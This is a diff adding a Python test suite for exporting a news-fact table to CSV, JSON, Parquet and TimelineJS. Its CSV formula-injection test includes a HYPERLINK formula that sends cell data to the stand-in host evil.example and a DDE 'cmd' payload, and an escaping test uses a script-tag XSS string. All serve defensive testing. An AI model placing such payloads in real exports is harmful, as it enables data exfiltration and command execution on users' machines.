@@ -1,0 +1,150 @@
+"""The fact table as CSV, JSON, Parquet and TimelineJS: each file read back and checked."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import jsonschema
+import pandas as pd
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from charts.factrows import STUBB_DOC, fact_frame, story_facts
+from dashboard.export import DATA_FORMATS, data_bytes
+from dashboard.export.data import FORMULA_STARTS, neutralise_formula
+from dashboard.facts.schema import FACT_COLUMNS
+
+SCHEMA = json.loads((Path(__file__).parent / "timelinejs.schema.json").read_text())
+
+
+def read_csv(payload: bytes) -> list[dict[str, str]]:
+    assert payload.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
+    return list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_has_one_row_per_fact_in_schema_order(tmp_path):
+    facts = story_facts()
+    path = tmp_path / "facts.csv"
+    path.write_bytes(data_bytes(facts, "csv"))
+    rows = read_csv(path.read_bytes())
+    assert list(rows[0]) == list(FACT_COLUMNS)
+    assert [r["fact_id"] for r in rows] == facts["fact_id"].tolist()
+    stubb = next(r for r in rows if r["doc_id"] == STUBB_DOC)
+    assert stubb["actors"] == "Donald Trump; Alexander Stubb"
+    assert (stubb["start"], stubb["end"], stubb["dct"]) == ("2025-10-01", "2025-11-01", "2025-10-21")
+    assert "Außenminister" in rows[0]["title"]
+    off_axis = next(r for r in rows if r["value"] == "PAST_REF")
+    assert off_axis["start"] == off_axis["end"] == ""
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_cells_cannot_run_as_formulas(start):
+    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    facts = fact_frame([{"value": "2025", "sentence": evil, "timex_text": "2025", "actors": [f"{start}cmd|' /C calc'!A0"],
+                         "title": evil}])
+    row = read_csv(data_bytes(facts, "csv"))[0]
+    for column in ("sentence", "title", "actors"):
+        assert row[column].startswith("'") and row[column][1:].startswith(start)
+    assert row["sentence"] == "'" + evil
+
+
+@given(st.text(min_size=0, max_size=30))
+@settings(max_examples=200, deadline=None)
+def test_no_csv_cell_starts_a_formula_and_no_text_is_lost(text):
+    facts = fact_frame([{"value": "2025", "sentence": text, "timex_text": "2025"}])
+    cell = read_csv(data_bytes(facts, "csv"))[0]["sentence"]
+    assert not cell.startswith(FORMULA_STARTS)
+    assert cell == neutralise_formula(text)
+
+
+def test_json_is_an_array_of_facts_with_iso_dates_and_lists():
+    records = json.loads(data_bytes(story_facts(), "json"))
+    assert len(records) == 8 and list(records[0]) == list(FACT_COLUMNS)
+    first = records[0]
+    assert first["start"] == "2024-01-01" and first["end"] == "2025-01-01" and first["actors"] == ["NATO", "Joe Biden"]
+    assert first["mod"] is None and first["sentence_index"] == 14
+    assert records[-1]["start"] is None
+
+
+def test_parquet_keeps_the_schema_types(tmp_path):
+    facts = story_facts()
+    path = tmp_path / "facts.parquet"
+    path.write_bytes(data_bytes(facts, "parquet"))
+    table = pq.read_table(path)
+    assert table.column_names == list(FACT_COLUMNS)
+    assert str(table.schema.field("actors").type) == "list<element: string>"
+    assert str(table.schema.field("start").type) == "timestamp[us]"
+    back = table.to_pandas()
+    assert back["actors"].map(list).tolist() == facts["actors"].tolist()
+    assert back["start"].tolist() == facts["start"].tolist()
+
+
+def test_parquet_of_facts_without_any_actor_still_has_a_list_column():
+    facts = fact_frame([{"value": "2025", "actors": []}])
+    table = pq.read_table(io.BytesIO(data_bytes(facts, "parquet")))
+    assert str(table.schema.field("actors").type) == "list<element: string>"
+
+
+def test_timelinejs_validates_and_dates_carry_the_facts_precision():
+    document = json.loads(data_bytes(story_facts(), "timelinejs"))
+    jsonschema.validate(document, SCHEMA)
+    events = {e["display_date"]: e for e in document["events"]}
+    assert len(events) == 7  # the fact without a place on the axis is left out
+    assert events["2024 (2024)"]["start_date"] == {"year": 2024} and "end_date" not in events["2024 (2024)"]
+    assert events["October (2025-10)"]["start_date"] == {"year": 2025, "month": 10}
+    assert events["am Mittwoch (2025-12-03)"]["start_date"] == {"year": 2025, "month": 12, "day": 3}
+    early = events["Anfang 2026 (2026 START)"]
+    assert early["start_date"] == {"year": 2026, "month": 1, "day": 1} and early["end_date"]["month"] == 5
+    assert events["October (2025-10)"]["group"] == "Donald Trump"
+    assert len({e["unique_id"] for e in document["events"]}) == 7
+
+
+def test_timelinejs_ranges_end_on_their_last_unit():
+    document = json.loads(data_bytes(fact_frame([{"value": "2025-Q4"}, {"value": "202"}, {"value": "2025-W49"}]), "timelinejs"))
+    jsonschema.validate(document, SCHEMA)
+    spans = {e["display_date"]: (e["start_date"], e.get("end_date")) for e in document["events"]}
+    assert spans["2025-Q4 (2025-Q4)"] == ({"year": 2025, "month": 10}, {"year": 2025, "month": 12})
+    assert spans["202 (202)"] == ({"year": 2020}, {"year": 2029})
+    assert spans["2025-W49 (2025-W49)"] == ({"year": 2025, "month": 12, "day": 1}, {"year": 2025, "month": 12, "day": 7})
+
+
+def test_timelinejs_escapes_markup_and_groups_by_document():
+    facts = fact_frame([{"value": "2025", "sentence": "<script>alert(1)</script> & more", "actors": ["<i>X</i>"]}])
+    document = json.loads(data_bytes(facts, "timelinejs", group_by="document"))
+    jsonschema.validate(document, SCHEMA)
+    event = document["events"][0]
+    assert "<script>" not in event["text"]["text"] and "&lt;script&gt;" in event["text"]["text"]
+    assert event["text"]["headline"] == "&lt;i&gt;X&lt;/i&gt;"
+    assert event["group"] == "NATO-Außenminister treffen sich ohne Rubio"
+
+
+@pytest.mark.parametrize("fmt", DATA_FORMATS)
+def test_no_facts_still_make_a_valid_file(fmt):
+    payload = data_bytes(story_facts().iloc[:0], fmt)
+    if fmt == "csv":
+        assert read_csv(payload) == [] and payload.decode("utf-8-sig").startswith("fact_id,doc_id")
+    elif fmt == "json":
+        assert json.loads(payload) == []
+    elif fmt == "parquet":
+        assert pq.read_table(io.BytesIO(payload)).num_rows == 0
+    else:
+        jsonschema.validate(json.loads(payload), SCHEMA)
+
+
+def test_store_shaped_frames_export_alike():
+    facts = story_facts()
+    import numpy as np
+
+    as_store = facts.assign(actors=[np.array(a, dtype=object) if a else pd.NA for a in facts["actors"]])
+    for fmt in DATA_FORMATS:
+        assert data_bytes(as_store, fmt) == data_bytes(facts, fmt)
+
+
+def test_unknown_format_is_an_error():
+    with pytest.raises(ValueError, match="data format"):
+        data_bytes(story_facts(), "xlsx")
